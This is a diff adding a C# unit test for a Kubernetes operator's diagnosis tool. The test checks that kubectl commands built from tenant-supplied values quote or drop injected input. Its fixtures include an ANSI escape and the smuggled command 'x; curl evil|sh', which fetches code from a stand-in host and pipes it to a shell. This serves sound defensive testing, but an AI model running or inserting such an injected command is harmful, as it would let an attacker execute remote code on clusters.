@@ -89,6 +89,15 @@ internal sealed class DiagnosisTests
         Single(Complete with { ArgoControllers = [new("argo/workflow-controller", true, null) { InstanceId = "blue" }] })
             .Command.Should().EndWith("ARC_ARGO__INSTANCEID=blue");
 
+    [Test]
+    public void Values_of_a_tenant_are_one_word_in_the_command()
+    {
+        Single(Complete with { ArgoControllers = [new("team-a/workflow-controller", true, null) { InstanceId = "\u001B[2J x; curl evil|sh" }] })
+            .Command.Should().Be("kubectl set env -n arc-system deployment/arc-operator 'ARC_ARGO__INSTANCEID= x; curl evil|sh'");
+        Single(Complete with { Namespaces = [new("team-a") { AccountsWithoutRights = ["x; curl evil|sh"] }] })
+            .Command.Should().Be("kubectl apply -k config/templates/worker -n team-a");
+    }
+
     [TestCase("default", "kubectl apply -k config/templates/worker -n team-a")]
     [TestCase("builder", "kubectl apply -k config/templates/worker -n team-a && kubectl create rolebinding builder-arc-worker --role=arc-worker --serviceaccount=team-a:builder -n team-a")]
     public void An_account_of_workers_without_rights_is_named_with_the_command_that_grants_them(string account, string command) =>
